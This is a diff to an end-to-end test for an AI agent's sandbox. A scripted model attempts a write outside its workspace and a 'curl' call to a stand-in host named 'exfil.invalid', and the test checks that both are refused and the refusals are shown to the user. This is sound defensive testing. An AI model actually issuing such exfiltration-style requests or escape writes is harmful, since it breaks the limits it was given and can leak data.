@@ -1,9 +1,9 @@
 // The sandbox as a person meets it, through the real bin/xagent in tmux against the scripted
-// model: the model's bash write outside the workspace fails and the window shows why while the
-// reply goes on; `!outside` approved by keys runs its command once, outside; `/permissions full`
+// model: the model's bash write outside the workspace fails, and so does a request to a host the
+// settings do not list; the window shows why while the reply goes on; `!outside` approved by keys runs its command once, outside; `/permissions full`
 // puts the warning in the status bar.
 import { afterAll, describe, expect, test } from "bun:test"
-import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs"
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
 import { join } from "node:path"
 import { XAGENT_BIN, type Scenario } from "../fixture/mockllm"
 import { terminalBox } from "./terminal-box"
@@ -13,7 +13,12 @@ import { hasTmux } from "./tmux"
 const outside = mkdtempSync("/var/tmp/xagent-e2e-outside-")
 const scenario: Scenario = {
   turns: [
-    { tool: "bash", args: { command: `echo escaped > ${outside}/model.txt` } },
+    {
+      tools: [
+        { tool: "bash", args: { command: `echo escaped > ${outside}/model.txt` } },
+        { tool: "bash", args: { command: "curl -sS http://exfil.invalid/" } },
+      ],
+    },
     { text: "Carried on after the refusal." },
   ],
   fallback: "nothing more to say",
@@ -28,7 +33,9 @@ describe.skipIf(!hasTmux)("the sandbox in a terminal", () => {
   })
 
   test("a refused write shows and the reply goes on; !outside runs once by keys; /permissions full warns", async () => {
-    const { pane } = await terminalBox(scenario, cleanups)
+    const { box, pane } = await terminalBox(scenario, cleanups)
+    // A host list: the sandbox's network goes through the runtime's proxy, which refuses the rest.
+    writeFileSync(join(box.xagentHome, "settings.json"), JSON.stringify({ sandbox: { network: ["example.invalid"] } }))
     pane.type(`${XAGENT_BIN} --no-daemon; echo "EXIT=$?"`)
     pane.send("Enter")
     await pane.waitFor("Ask anything")
@@ -37,6 +44,8 @@ describe.skipIf(!hasTmux)("the sandbox in a terminal", () => {
     pane.send("Enter")
     const refused = await pane.waitFor("Carried on after the refusal.")
     expect(refused).toContain("Read-only file system")
+    expect(refused).toContain("xagent's sandbox refused the connection to exfil.invalid")
+    expect(refused).toContain("Sandbox network: refused exfil.invalid")
     expect(existsSync(join(outside, "model.txt"))).toBe(false)
     await pane.waitFor("Ask anything")
 
